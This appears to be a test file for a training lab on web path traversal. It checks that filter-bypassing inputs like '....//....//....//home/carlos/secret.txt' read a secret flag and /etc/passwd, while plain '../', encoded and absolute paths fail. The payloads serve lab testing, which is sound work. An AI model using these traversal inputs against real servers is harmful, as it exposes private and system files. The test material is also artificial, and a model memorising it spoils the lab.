import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

describe('lab web-path-traversal', () => {
  let lab: Awaited<ReturnType<typeof startTestLab>>;
  afterEach(() => lab.close());

  const image = (filename: string) => lab.get(`/image?filename=${filename}`);

  it("is solved by climbing out of the images folder with ....// to read carlos's secret", async () => {
    lab = await startTestLab('web-path-traversal');
    const home = await lab.get('/');
    expect(home.body).toContain('src="image?filename=sunrise.jpg"');
    const picture = await image('sunrise.jpg');
    expect(picture.headers['content-type']).toContain('image/svg+xml');

    // In the browser's address bar: the file comes back as text, with the flag in it.
    const secret = await image('....//....//....//home/carlos/secret.txt');
    expect(secret.status).toBe(200);
    expect(secret.body).toContain("carlos's notes");
    expect(secret.body).toContain(`Flag for this lab: ${lab.flag}`);

    // In the request editor, the lab page around the raw answer shows the solved banner.
    const viaEditor = await lab.editor({
      method: 'GET',
      path: '/image?filename=....//....//....//home/carlos/secret.txt',
    });
    expect(viaEditor.body).toContain('HTTP/1.1 200 OK');
    expect(showsFlag(viaEditor.body, lab.flag)).toBe(true);
  });

  it('resolves paths like the file system does: any number of extra ....// and other spellings work', async () => {
    lab = await startTestLab('web-path-traversal');
    const deep = await image('....//....//....//....//....//etc/....//home/./carlos/secret.txt');
    expect(deep.body).toContain(lab.flag);
    const other = await image(encodeURIComponent('..././..././..././home/carlos/secret.txt'));
    expect(other.body).toContain(lab.flag);
  });

  it('shows no flag for plain ../, absolute paths, other files, or the pictures', async () => {
    lab = await startTestLab('web-path-traversal');
    // The filter removes plain ../ and the error shows the path that was really opened.
    const plain = await image('../../../etc/passwd');
    expect(plain.status).toBe(404);
    expect(plain.body).toContain("ENOENT: no such file or directory, open '/var/www/images/etc/passwd'");
    const encoded = await image('%2e%2e%2f%2e%2e%2f%2e%2e%2fhome%2fcarlos%2fsecret.txt');
    expect(encoded.status).toBe(404);
    // path.join keeps an absolute name inside the folder (unlike Python's os.path.join).
    const absolute = await image('/home/carlos/secret.txt');
    expect(absolute.body).toContain("open '/var/www/images/home/carlos/secret.txt'");
    expect(absolute.body).not.toContain(lab.flag);

    // Reading other files proves the flaw but is not the objective.
    const passwd = await image('....//....//....//etc/passwd');
    expect(passwd.status).toBe(200);
    expect(passwd.body).toContain('carlos:x:1001:1001');
    expect(passwd.body).not.toContain(lab.flag);
    const shadow = await image('....//....//....//etc/shadow');
    expect(shadow.status).toBe(403);
    expect((await image('....//....//....//home/carlos/')).body).toContain('EISDIR');
    expect((await image('....//....//....//home/carlos/secret.txt%00.jpg')).status).toBe(400);

    const honest = await lab.editor({ method: 'GET', path: '/image?filename=tea-garden.jpg' });
    expect(honest.body).toContain('Tea garden, Munnar');
    expect(showsFlag(honest.body, lab.flag)).toBe(false);
  });
});
